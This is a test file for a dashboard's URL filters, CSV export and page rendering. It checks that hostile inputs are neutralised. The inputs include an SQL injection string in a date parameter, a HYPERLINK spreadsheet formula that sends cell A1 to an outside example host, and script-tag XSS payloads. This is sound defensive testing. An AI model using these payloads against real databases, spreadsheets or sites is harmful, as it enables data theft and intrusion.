import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../dashboard/csv';
import { filterQuery, parseDay, parseFilters, previousRange, resolveRange } from '../../dashboard/filters';
import { PANELS } from '../../dashboard/panels';
import { esc, renderPage } from '../../dashboard/render';

const q = (s: string) => new URLSearchParams(s);

describe('dashboard filters', () => {
  it('reads a range, a category and a country from the URL', () => {
    expect(parseFilters(q('from=2026-10-01&to=2026-10-31&category=books&country=FR')))
      .toEqual({ from: '2026-10-01', to: '2026-10-31', category: 'books', country: 'FR', problems: [] });
  });

  it('treats absent and empty values as the defaults', () => {
    expect(parseFilters(q('from=&to=&category=&country='))).toEqual({ from: null, to: null, category: null, country: null, problems: [] });
  });

  it('names the parameter and the value of a malformed or impossible date', () => {
    expect(parseFilters(q('from=yesterday')).problems).toEqual(['from must be a date as YYYY-MM-DD, got "yesterday".']);
    expect(parseFilters(q('to=2026-02-30')).problems).toEqual(['to must be a date as YYYY-MM-DD, got "2026-02-30".']);
    expect(parseFilters(q("from=2026-01-01'; drop table x;--")).problems[0]).toMatch(/^from must be a date/);
    expect(parseDay('2024-02-29')).toBe('2024-02-29');
  });

  it('refuses a reversed range and one too long to mean anything', () => {
    expect(parseFilters(q('from=2026-10-31&to=2026-10-01')).problems).toEqual(['The range is reversed: from 2026-10-31 is after to 2026-10-01.']);
    expect(parseFilters(q('from=2000-01-01&to=2062-01-01')).problems[0]).toMatch(/longer than 3700 days/);
    expect(parseFilters(q(`category=${'x'.repeat(101)}`)).problems).toEqual(['category is at most 100 characters, got 101.']);
  });

  it('fills a missing end from the newest date in the data, and a missing start 29 days before it', () => {
    expect(resolveRange({ from: null, to: null }, '2026-10-31')).toEqual({ from: '2026-10-02', to: '2026-10-31' });
    expect(resolveRange({ from: '2026-10-20', to: null }, '2026-10-31')).toEqual({ from: '2026-10-20', to: '2026-10-31' });
    expect(resolveRange({ from: '2026-12-20', to: null }, '2026-10-31')).toEqual({ from: '2026-12-20', to: '2026-12-20' });
    expect(resolveRange({ from: null, to: '2026-03-01' }, '2026-10-31')).toEqual({ from: '2026-01-31', to: '2026-03-01' });
  });

  it('compares with the range of the same length just before', () => {
    expect(previousRange({ from: '2026-10-01', to: '2026-10-31' })).toEqual({ from: '2026-08-31', to: '2026-09-30' });
    expect(previousRange({ from: '2026-03-01', to: '2026-03-01' })).toEqual({ from: '2026-02-28', to: '2026-02-28' });
  });

  it('keeps the filters in links, leaving out the empty ones', () => {
    expect(filterQuery({ from: '2026-10-01', to: '2026-10-31', category: null, country: 'Côte d\'Ivoire' })).toBe('?from=2026-10-01&to=2026-10-31&country=C%C3%B4te+d%27Ivoire');
    expect(filterQuery({})).toBe('');
  });
});

describe('dashboard CSV export', () => {
  it('prefixes text that a spreadsheet would run as a formula', () => {
    expect(csvCell('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"');
    for (const s of ['+1+2', '-2+3', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(s).replace(/^"/, '')).toMatch(/^'/);
    expect(csvCell('plain, with a comma')).toBe('"plain, with a comma"');
  });

  it('writes numbers from numeric columns as numbers, negative ones included', () => {
    expect(csvCell('-12.50', true)).toBe('-12.50');
    expect(toCsv(['name', 'amount'], [{ name: '=1+1', amount: '-3.00' }, { name: null, amount: 4 }], new Set(['amount'])))
      .toBe("name,amount\r\n'=1+1,-3.00\r\n,4\r\n");
  });
});

describe('dashboard panels and pages', () => {
  it('has unique panel ids and SQL with parameters only: no value is spliced into the text', () => {
    expect(new Set(PANELS.map((p) => p.id)).size).toBe(PANELS.length);
    for (const p of PANELS) {
      const values = p.params({ from: '2026-10-01', to: '2026-10-31', category: 'c', country: 'k' });
      const placeholders = new Set([...p.sql.matchAll(/\$(\d+)/g)].map((m) => Number(m[1])));
      expect([...placeholders].sort((a, b) => a - b), p.id).toEqual(values.map((_, i) => i + 1));
      expect(p.sql, p.id).not.toMatch(/\$\{/);
    }
  });

  it('escapes what comes from the data and the request', () => {
    expect(esc('<script>alert("x")</script>')).toBe('&#60;script&#62;alert(&#34;x&#34;)&#60;/script&#62;');
    const html = renderPage({
      page: 'products', filters: null, form: { from: '"><script>x()</script>', to: '', category: '', country: '' },
      problems: ['from must be a date as YYYY-MM-DD, got "<b>".'], notices: [], categories: ['<i>'], countries: [], results: [],
      temporalUi: { TEMPORAL_UI_URL: 'http://127.0.0.1:8233', TEMPORAL_NAMESPACE: 'default' },
    });
    expect(html).not.toMatch(/<script>x\(\)|<b>|<i>/);
    expect(html).toContain('role="alert"');
  });
});
